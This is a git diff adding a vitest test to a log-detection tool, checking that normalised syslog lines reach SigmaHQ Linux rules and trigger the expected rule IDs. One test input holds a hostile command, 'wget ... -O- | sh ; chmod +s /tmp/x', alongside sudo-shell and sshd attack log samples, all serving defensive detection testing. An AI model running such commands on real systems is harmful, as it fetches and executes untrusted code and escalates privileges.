@@ -10,6 +10,9 @@ import { describe, expect, it } from 'vitest';
 import { checkLine, normaliseLine, normaliseObject, quickEve, sniffFormat } from '../src/detect/normalise/index.js';
 import type { NormaliseOptions } from '../src/detect/normalise/index.js';
 import type { NormalisedEvent, NormaliseResult } from '../src/detect/normalise/index.js';
+import { sigmaView } from '../src/detect/pipeline/hits.js';
+import { loadRulesDir, SigmaEngine } from '../src/detect/sigma/index.js';
+import type { EventLogsource } from '../src/detect/sigma/index.js';
 import { sharedPath } from './helpers/shared.js';
 
 const data = sharedPath('data/telemetry');
@@ -385,6 +388,27 @@ describe('syslog and CEF', () => {
     expect([origin['host.name'], origin['@timestamp']]).toEqual(['rtr2', '2026-03-01T18:46:11.001Z']);
     // An ambiguous zone name is refused with the reason, never read as UTC.
     expect(err(normaliseLine('syslog', 'rtr1 812: Jun  3 10:00:00.000 IST: %LINK-3-UPDOWN: down', ctx))).toMatch(/time zone "IST"/);
+  });
+
+  it('routes a tagged line to SigmaHQ\'s linux rules (product linux, service syslog / the program / auth)', () => {
+    // Before, a line was product "<program>" / service "syslog": no linux rule ever saw one.
+    const linux = loadRulesDir(sharedPath('data/sigma/rules/linux'));
+    expect(linux.failures).toEqual([]);
+    const engine = new SigmaEngine(linux.items);
+    const fired = (line: string): string[] => {
+      const e = ok(normaliseLine('syslog', line, ctx));
+      return engine.process(sigmaView(e), 0, e.logsource as EventLogsource).map((m) => m.ruleId ?? '').sort();
+    };
+    expect(fired('<38>Nov 26 10:00:00 web1 sshd[812]: fatal: buffer_get_string: bad string')).toEqual(['e76b413a-83d0-4b94-8e4c-85db4a5b8bdc']);
+    expect(fired('<78>Nov 26 10:00:00 web1 CRON[812]: (root) REPLACE (root)')).toEqual(['af202fd3-7bff-4212-a25a-fb34606cfcbe']);
+    expect(fired('<165>1 2026-11-26T10:00:00Z ftp1 vsftpd 12 - - Connection refused: tcp_wrappers denial.')).toEqual(['377f33a1-4b36-4ee1-acee-1dbe4b43cfbe']);
+    expect(fired('<13>Nov 26 10:00:00 web1 bash: wget http://x/a.sh -O- | sh ; chmod +s /tmp/x')).toContain('2aa1440c-9ae9-4d92-84a7-a9e5f5e31695');
+    const sudo = ok(normaliseLine('syslog', '<86>Nov 26 10:00:00 web1 sudo[9]: bob : COMMAND=/bin/sh', ctx));
+    expect(sudo.logsource).toEqual({ product: 'linux', service: ['syslog', 'sudo', 'auth'] });
+    // Network gear without a program tag keeps its own routing: the linux rules do not see it.
+    const cisco = ok(normaliseLine('syslog', '172.16.5.10 6705: Feb 17 13:40:03.673: %SYS-5-CONFIG_I: REPLACE', ctx));
+    expect(cisco.logsource).toEqual({ product: 'syslog', service: 'syslog' });
+    expect(engine.process(sigmaView(cisco), 0, cisco.logsource as EventLogsource)).toEqual([]);
   });
 
   it('gives a reason for every malformed syslog / CEF line', () => {
